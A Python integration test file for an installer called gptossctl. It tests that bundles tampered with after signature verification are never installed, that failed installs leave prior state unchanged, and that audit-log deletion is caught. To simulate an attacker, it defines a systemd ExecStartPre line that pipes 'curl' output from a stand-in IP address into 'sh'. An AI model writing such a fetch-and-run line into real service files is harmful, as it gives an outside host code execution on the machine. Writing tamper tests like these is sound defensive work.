"""What install promises beyond "it works": the bundle is read once and only the verified copy is used after,
and the records of the running release (trust, API key, release record) change only when a whole install
succeeded. Real bundles, real keys, a real staged tree; the bundle is changed under a running install at the
moment its release copy completes (the `environment` step starts right after the last byte landed)."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from gptossctl.bundle.keys import load_public_key
from gptossctl.bundle.verify import TrustPolicy
from gptossctl.errors import CheckFailed
from gptossctl.install.lifecycle import InstallRequest, install
from tests.conftest import KeyPair, pack

pytestmark = pytest.mark.integration
INSTANCE = "tiny-gpt-oss"
EVIL = "ExecStartPre=/bin/sh -c 'curl http://203.0.113.7/x | sh'\n"


def _policy(*keys: KeyPair, threshold: int = 1) -> TrustPolicy:
    return TrustPolicy(tuple(load_public_key(k.public) for k in keys), threshold=threshold)


def _swap(bundle: Path) -> None:
    """What an attacker with write access to the media does once verification is over."""
    unit = bundle / "payload/systemd/gptoss@.service"
    unit.write_text(unit.read_text().replace("[Service]\n", "[Service]\n" + EVIL, 1))
    prof = bundle / "payload/profiles/cpu-tiny.yaml"
    prof.write_text(prof.read_text().replace("max-model-len: 2048", "max-model-len: 1000000"))


def _tree_digest(root: Path, *rel: str) -> dict[str, str]:
    out = {}
    for r in rel:
        base = root / r
        for p in sorted(base.rglob("*")) if base.is_dir() else [base]:
            if p.is_file():
                out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def test_a_bundle_changed_after_verification_is_never_used(bundle: Path, keys: dict[str, KeyPair],
                                                           tmp_path: Path) -> None:
    root = tmp_path / "root"
    swapped = []

    def on_step(name: str, _doing: str) -> None:
        if name == "environment" and not swapped:  # the release copy has just completed
            _swap(bundle)
            swapped.append(name)

    r = install(InstallRequest(bundle=bundle, policy=_policy(keys["alice"]), root=root,
                               vllm_python=Path(sys.executable)), on_step=on_step)
    assert swapped and EVIL in (bundle / "payload/systemd/gptoss@.service").read_text()  # the swap did happen
    unit = (root / f"etc/systemd/system/gptoss@{INSTANCE}-r0.service").read_text()
    release = root / "opt/gptoss" / INSTANCE / "releases" / str(r.version)
    assert "ExecStartPre" not in unit and "203.0.113.7" not in unit
    assert "max-model-len: 2048" in (release / "vllm-r0.yaml").read_text()
    assert "ExecStartPre" not in (release / "payload/systemd/gptoss@.service").read_text()


def test_a_profile_swapped_before_it_is_read_is_refused(bundle: Path, keys: dict[str, KeyPair],
                                                        tmp_path: Path) -> None:
    root = tmp_path / "root"

    def on_step(name: str, _doing: str) -> None:
        if name == "preflight":  # verified, not yet read
            _swap(bundle)

    with pytest.raises(CheckFailed) as exc:
        install(InstallRequest(bundle=bundle, policy=_policy(keys["alice"]), root=root,
                               vllm_python=Path(sys.executable)), on_step=on_step)
    assert exc.value.code == "install.bundle_changed"
    assert "payload/profiles/cpu-tiny.yaml" in [f.subject for f in exc.value.findings]
    assert not (root / "opt/gptoss" / INSTANCE).exists() and not (root / "etc/gptoss").exists()


def test_a_refused_upgrade_leaves_trust_key_and_records_as_they_were(cli, tiny_model: Path,  # type: ignore[no-untyped-def]
                                                                     keys: dict[str, KeyPair], tmp_path: Path) -> None:
    root = tmp_path / "root"
    v5 = pack(tmp_path / "v5", tiny_model, [keys["alice"]], version=5)
    code, doc = cli("install", str(v5), "--trust", str(keys["alice"].public), "--root", str(root),
                    "--vllm-python", sys.executable)
    assert code == 0, doc
    before = _tree_digest(root, f"etc/gptoss/{INSTANCE}", f"opt/gptoss/{INSTANCE}/releases/5",
                          f"etc/systemd/system/gptoss@{INSTANCE}-r0.service")
    # v6 is signed by alice and bob; installed against the instance's root (alice, 1 of 1: bob is an unknown
    # co-signer, not counted), but without an environment to build (no wheels and no --vllm-python): it is
    # refused after verification, by the host checks, before anything is unpacked. (A new trust set on the
    # command line is refused outright since trust roots: see test_trust_root.py.)
    v6 = pack(tmp_path / "v6", tiny_model, [keys["alice"], keys["bob"]], version=6)
    code, doc = cli("install", str(v6), "--root", str(root))
    assert code == 1 and doc["error"]["code"] == "install.no_wheels", doc
    assert [s["step"] for s in doc["data"]["steps"]][-1] == "wheels" and not (
        root / f"opt/gptoss/{INSTANCE}/releases/6").exists()
    assert _tree_digest(root, f"etc/gptoss/{INSTANCE}", f"opt/gptoss/{INSTANCE}/releases/5",
                        f"etc/systemd/system/gptoss@{INSTANCE}-r0.service") == before
    code, doc = cli("trust", "show", "--root", str(root))
    assert code == 0 and doc["data"]["version"] == 1, doc
    assert doc["data"]["roles"]["release"] == {"signers": ["alice"], "threshold": 1}
    code, doc = cli("compliance", "check", "--root", str(root))
    assert {c["id"]: c["status"] for c in doc["data"]["checks"]}["bundle.signatures"] == "pass", doc


def test_a_refused_first_install_leaves_no_instance_and_no_key(cli, bundle: Path, keys: dict[str, KeyPair],  # type: ignore[no-untyped-def]
                                                               tmp_path: Path) -> None:
    root = tmp_path / "root"
    code, doc = cli("install", str(bundle), "--trust", str(keys["alice"].public), "--root", str(root))
    assert code == 1 and doc["error"]["code"] == "install.no_wheels", doc
    assert not (root / "opt/gptoss" / INSTANCE).exists()
    assert not (root / "etc/gptoss" / INSTANCE / "api-key").exists()
    code, doc = cli("status", "--root", str(root))
    assert code == 1 and doc["data"]["instances"] == [] and doc["findings"][0]["code"] == "status.none"


def test_deleting_the_audit_log_and_its_head_is_caught_by_the_anchor(cli, bundle: Path,  # type: ignore[no-untyped-def]
                                                                     keys: dict[str, KeyPair], tmp_path: Path) -> None:
    root = tmp_path / "root"
    assert cli("install", str(bundle), "--trust", str(keys["alice"].public), "--root", str(root),
               "--vllm-python", sys.executable)[0] == 0
    log = root / "var/log/gptoss"
    lines = (log / "audit.jsonl").read_text().splitlines()
    assert cli("audit", "verify", "--root", str(root))[0] == 0
    # Cut the last entry and rewrite the head to match: only the anchor still knows.
    entry = json.loads(lines[0])
    (log / "audit.jsonl").write_text("")
    (log / "audit.head").unlink()
    code, doc = cli("audit", "verify", "--root", str(root))
    assert code == 1 and [f["code"] for f in doc["findings"]] == ["audit.truncated"], doc
    (log / "audit.jsonl").unlink()
    code, doc = cli("audit", "verify", "--root", str(root))
    assert code == 1 and [f["code"] for f in doc["findings"]] == ["audit.missing"], doc
    assert str(entry["seq"]) in doc["findings"][0]["message"]
    code, doc = cli("compliance", "check", "--root", str(root))
    assert {c["id"]: c["status"] for c in doc["data"]["checks"]}["audit.chain"] == "fail"
